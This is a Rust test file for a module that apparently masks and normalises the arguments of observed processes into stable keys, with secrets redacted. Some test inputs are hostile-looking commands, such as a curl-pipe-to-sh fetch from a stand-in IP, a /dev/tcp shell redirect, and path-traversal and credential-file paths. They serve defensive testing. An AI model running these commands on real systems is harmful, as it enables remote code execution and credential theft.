//! Arguments as they were seen of real programs, and what becomes of them.

mod templates;

use proptest::prelude::*;

use super::{
    code::{Language, commands},
    mask::masked,
    vector,
    word::{covers, fault, joined},
};

/// The arguments of a program, `^` between them.
fn key(exe: &str, args: &str) -> String {
    let mut out = String::new();
    assert!(vector::push(&mut out, exe.as_bytes(), args.replace('^', "\0").as_bytes(), false));
    out
}

fn code(args: &str) -> String {
    key("/usr/bin/dash", &format!("sh^-c^{args}"))
}

#[test]
fn what_is_said_stays_and_what_varies_is_masked_at_first_sight() {
    for (word, wanted) in [
        ("-fsS", "-fsS"),
        ("--max-time", "--max-time"),
        ("items", "items"),
        ("server.js", "server.js"),
        ("app:app", "app:app"),
        ("/srv/app/gunicorn.conf.py", "/srv/app/gunicorn.conf.py"),
        ("+%Y%m%dT%H%M%S", "+%Y%m%dT%H%M%S"),
        ("-name", "-name"),
        ("*.csv.gz", "*.csv.gz"),
        ("5432", "<int>"),
        ("-20", "-<int>"),
        ("+6", "+<int>"),
        ("-k3", "-k<int>"),
        ("-Xmx512m", "-Xmx<int>m"),
        ("--port=7001", "--port=<int>"),
        ("10.5s", "<int>.<int>s"),
        ("1,2,3", "<int>"),
        ("python3.11", "python<int>.<int>"),
        ("2026-01-31", "<date>"),
        ("/data/shop-20260131T101112.sql.gz", "/data/shop-<date>T<int>.sql.gz"),
        ("/archive/000000010000000000000003.gz", "/archive/<id>.gz"),
        ("/archive/00000001000000000000000A.gz", "/archive/<id>.gz"),
        ("/up/0b6a1f6e-7c0a-4e5f-9a54-08f1b3f9b8a1.jpg", "/up/<uuid>.jpg"),
        ("/tmp/lr.conf", "<path:/tmp>"),
        ("of=/dev/shm/x", "of=<path:/dev/shm>"),
        ("@/tmp/body", "@<path:/tmp>"),
        ("-I/usr/include", "-I/usr/include"),
        ("../../etc/passwd", "<path:..>"),
        ("/proc/4711/status", "/proc/<int>/status"),
        ("198.51.100.66", "<host>"),
        ("10.0.0.0/8", "<host>"),
        ("127.0.0.1", "<host:local>"),
        ("[::1]:80", "<host:local>"),
        ("pyapp:8000", "<host>"),
        ("api.partner.example", "<host>"),
        ("root@db", "<host>"),
        ("http://api.test/v1/items?n=100&x=y", "<url:http>"),
        ("http://user:pw@127.0.0.1/healthz", "<url:http:local>"),
        ("--url=https://a.test/x?t=1", "--url=<url:https>"),
        ("unix:///run/x.sock", "<url:unix:local>"),
        ("0ce04523b9c8", "<id>"),
        ("shop_web.1.x8f3k2m9q0w1e2r3t4y5u6i7o", "shop_web.<int>.<id>"),
        ("aB3dEf", "<id>"),
        ("eyJhbGciOiJIUzI1NiJ9abc", "<id>"),
        ("PGPASSWORD=hunter", "PGPASSWORD=<secret>"),
        ("LANG=C", "LANG=<text>"),
        ("--db-password=hunter", "--db-password=<secret>"),
        ("daemon off;", "<text>"),
        ("{\"n\":1}", "<text>"),
        ("", "<text>"),
        ("a<b", "<text>"),
        ("--<word>://x", "<text>"),
        ("--x=a<b://c", "<text>"),
    ] {
        assert_eq!(masked(word), wanted, "{word}");
    }
}

#[test]
fn what_an_option_says_is_secret_is_never_kept() {
    for (exe, args) in [
        ("/usr/bin/curl", "curl^-u^admin:hunter^http://a.test/"),
        ("/usr/bin/curl", "curl^-uadmin:hunter^http://a.test/"),
        ("/usr/bin/curl", "curl^--user^admin:hunter^http://a.test/"),
        ("/usr/bin/curl", "curl^--user=admin:hunter^http://a.test/"),
        ("/usr/bin/mongosh", "mongosh^-u^root^-p^hunter"),
        ("/usr/bin/openssl", "openssl^-passin^pass:hunter"),
        ("/usr/bin/app", "app^--env=API_TOKEN=hunter"),
        ("/usr/bin/mysqldump", "mysqldump^-phunter^shop"),
        ("/usr/bin/redis-cli", "redis-cli^-a^hunter^PING"),
        ("/usr/bin/app", "app^--api-token^hunter"),
        ("/usr/bin/app", "app^--password=hunter"),
        ("/usr/bin/app", "app^API_KEY=hunter"),
        ("/usr/bin/psql", "psql^postgres://u:hunter@db/shop"),
        ("/usr/bin/curl", "curl^-H^Authorization: Bearer hunter"),
        ("/usr/bin/dash", "sh^-c^TOKEN=hunter curl -u x:hunter \"http://hunter/$X\" 'hunter'"),
        ("/usr/bin/python3.11", "python3^-c^connect('hunter', password=\"hunter\") # hunter"),
    ] {
        assert!(!key(exe, args).contains("hunter"), "{}", key(exe, args));
    }
}

#[test]
fn of_a_script_the_commands_are_kept() {
    for (script, wanted) in [
        ("getent hosts redis", "-c {getent}"),
        ("curl -fsS http://198.51.100.66/x.sh | sh", "-c {curl;sh}"),
        ("/opt/jobs/report.sh >> /data/report.log 2>&1", "-c {/opt/jobs/report.sh}"),
        ("a=1 b && { c; d & } ; e || exit 1", "-c {b;c;d;e;exit}"),
        ("for f in x y; do [ -f $f ] && : > $f; done", "-c {[;:}"),
        ("f=$(ls -d /opt)/z; echo \"$(id -u) $f\" > $f", "-c {ls;echo;id}"),
        ("if test -s x; then y `z`; fi # evil", "-c {test;y;z}"),
        ("timeout -s KILL 8 /tmp/.rs x; exec 3<>/dev/tcp/h/80", "-c {timeout;<path:/tmp>;exec}"),
        ("$CMD x; 'e'cho \\\n y", "-c {<var>;echo}"),
        ("case $1 in a) b;; *) c;; esac", "-c {b;*;c}"),
        ("(cd /x && ls); echo a; echo b", "-c {cd;ls;echo}"),
        ("f() { x; }; f", "-c {f;x}"),
        ("x=\"a $(y \"b c\" | z) d\" w > $(v)", "-c {y;z;w;v}"),
        ("exec nginx -g 'daemon off;'", "-c {exec;nginx}"),
        ("tool-20260131.sh", "-c {tool-<date>.sh}"),
    ] {
        assert_eq!(code(script), wanted, "{script}");
    }
    assert_eq!(key("/bin/busybox", "/bin/sh^-au^-c^hello; acts udp"), "-au -c {hello;acts}");
    assert_eq!(key("/bin/busybox", "busybox^sh^-c^id"), "-c {id}");
    assert_eq!(key("/usr/bin/bash", "bash^-c^-e^id x^name^7"), "-c -e {id} name <int>");
}

#[test]
fn of_a_program_in_another_language_the_names_are_kept() {
    let health = "import urllib.request as u; u.urlopen('http://127.0.0.1:8000/healthz',timeout=3)";
    let python = |code: &str| key("/usr/bin/python3.11", &format!("python3^-c^{code}"));
    assert_eq!(python(health), "-c {import;urllib.request;as;u;u.urlopen;timeout}");
    assert_eq!(python(health), python(&health.replace("8000", "9000").replace("=3", "=5")));
    assert_ne!(python(health), python(&format!("{health};open('/tmp/x','wb')")));
    let spawn =
        "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)";
    assert_eq!(python(spawn), python(&spawn.replace('5', "11").replace('7', "13")));
    let node =
        key("/usr/bin/node", "node^-e^require('http').get('http://x',r=>process.exit(0)) // x");
    assert_eq!(node, "-e {require;get;r;process.exit}");
    let perl = key("/usr/bin/perl", "perl^-MSocket^-ne^system \"id\" # x");
    assert_eq!(perl, "-MSocket -ne {system}");
}

#[test]
fn a_list_of_what_is_alike_is_as_one_of_it() {
    let remove = |names: &str| key("/usr/bin/rm", &format!("rm^-f^{names}"));
    let one = remove("/archive/000000010000000000000003.gz");
    assert_eq!(one, "-f /archive/<id>.gz");
    assert_eq!(remove(&["/archive/00000001000000000000000A.gz"; 300].join("^")), one);
    assert_eq!(key("/usr/bin/kill", "kill^12^13^14"), "<int>");
    assert_eq!(key("/usr/bin/gzip", "gzip"), "(none)");
    let long = (0..200).map(|it| char::from(b'a' + it % 26).to_string()).collect::<Vec<_>>();
    let long = key("/bin/x", &format!("x^{}", long.join("^")));
    assert!(long.ends_with("f ..."), "{long}");
}

#[test]
fn arguments_that_are_cut_are_never_those_that_are_whole() {
    let cut = |args: &str| {
        let mut out = String::new();
        vector::push(&mut out, b"/bin/sh", args.replace('^', "\0").as_bytes(), true);
        out
    };
    assert_eq!(cut("sh^-c^convert a b; echo x; cu"), "-c {convert;echo} <cut>");
    assert_eq!(cut("sh^-c^convert a b; echo x; curl -"), "-c {convert;echo} <cut>");
    assert_eq!(cut("sh^job.sh^a^b^cc"), "job.sh a b <cut>");
    assert!(!covers("b", "<cut>") && joined("b", "<cut>").is_none());
    let many = (b'a'..=b'z').map(|it| char::from(it).to_string()).collect::<Vec<_>>().join("^");
    assert_eq!(cut(&format!("sh^{many}")), "a b c d e f g h <cut>");
    let mut out = String::new();
    assert!(!vector::push(&mut out, b"/bin/sh", b"", false), "they are not known");
}

#[test]
fn words_become_one_only_where_they_are_of_one_kind() {
    for (a, b, wanted) in [
        ("redis", "api", Some("<word>")),
        ("redis", "<int>", Some("<word>")),
        ("<int>", "<id>", Some("<id>")),
        ("redis", "<text>", Some("<text>")),
        ("/data/x/a", "/data/y", Some("<path:/data>")),
        ("<path:/data/x>", "/data/y", Some("<path:/data>")),
        ("--user=a", "--user=b", Some("--user=<word>")),
        ("pg_wal/<int>", "pg_wal/<id>", Some("pg_wal/<id>")),
        ("/data/a", "/etc/a", None),
        ("/a", "/b", None),
        ("/data/a", "<path:/tmp>", None),
        ("/data/a", "/data/hook.sh", None),
        ("/etc/hosts", "/etc/shadow", None),
        ("/proc/a", "/proc/b", None),
        ("-a", "-b", None),
        ("-a", "b", None),
        ("<url:http>", "<url:http:local>", None),
        ("{a}", "{b}", None),
        ("--a=x", "--b=x", None),
        ("redis", "/data/x", None),
    ] {
        assert_eq!(joined(a, b).as_deref(), wanted, "{a} {b}");
        assert_eq!(joined(b, a).as_deref(), wanted, "{b} {a}");
        if let Some(wide) = wanted {
            assert!(covers(wide, a) && covers(wide, b), "{wide} {a} {b}");
        }
    }
    for (template, word) in [
        ("<word>", "-x"),
        ("<word>", "/x/y"),
        ("<word>", "<text>"),
        ("<word>", "{sh}"),
        ("<word>", "<url:http>"),
        ("<path:/data>", "/data/x.sh"),
        ("<path:/data>", "/database/x"),
        ("<path:/data>", "<path:/tmp>"),
        ("<path:/root>", "/root/.ssh/id"),
        ("/archive/<int>.gz", "/archive/<id>.gz"),
        ("{a}", "{a;b}"),
    ] {
        assert!(!covers(template, word), "{template} {word}");
    }
}

#[test]
fn what_was_never_masked_is_no_argument_that_somebody_may_write_down() {
    for word in [
        "-fsS",
        "--x=<path:/data>",
        "<url:http:local>",
        "{curl;<var>;...}",
        "/a/<int>.gz",
        "...",
        "<path:..>",
        "-I<path:/tmp>",
        "@<path:/tmp>",
        "-u<secret>",
        "LANG=<text>",
        "<cut>",
        "--password=<secret>",
        "/archive/<id>.gz",
        "shop-<date>T<int>.sql.gz",
        "<word>",
        "+<int>",
    ] {
        assert_eq!(fault(word), None, "{word}");
    }
    for word in [
        "5432",
        "--password=hunter",
        "http://a.test",
        "<path:/>",
        "<path:>",
        "<path:/proc>",
        "<any>",
        "{curl",
        "{7}",
        "/tmp/x",
        "<int",
        "a<b>",
        "",
        "<url:>",
        "--x=<path:/>",
        "10.0.0.1",
    ] {
        assert!(fault(word).is_some(), "{word}");
    }
}

proptest! {
    #[test]
    fn any_arguments_become_a_key_that_is_stable_and_may_be_written_down(
        words in proptest::collection::vec(
            "[a-z]{1,8}|-[a-zA-Z0-9]{1,5}|--[a-z-]{2,8}(=[a-z0-9./:]{0,9})?|(/[a-z0-9._-]{1,9}){1,4}|[ -~]{0,12}|[A-Z]{2,4}=[a-z0-9]{1,5}|.{0,6}",
            0..12,
        ),
        is_code in any::<bool>(),
    ) {
        let exe = if is_code { "/bin/bash" } else { "/bin/prog" };
        let words: Vec<String> = words.iter().map(|it| it.replace('\0', "")).collect();
        let args = format!("x\0{}{}", if is_code { "-c\0" } else { "" }, words.join("\0"));
        for is_cut in [false, true] {
            let mut out = String::new();
            prop_assert!(vector::push(&mut out, exe.as_bytes(), args.as_bytes(), is_cut));
            for word in out.split(' ') {
                prop_assert_eq!(fault(word), None, "{} of {}", word, out);
            }
        }
    }

    #[test]
    fn any_script_is_read(text in ".{0,80}|[a-c $()`\"';|&<>\\\\\n={}#-]{0,60}") {
        for language in [Language::Shell, Language::Hash, Language::Slashes] {
            let word = commands(language, &text, false);
            prop_assert!(!word.contains(' ') && word.len() < 400, "{}", word);
        }
    }
}
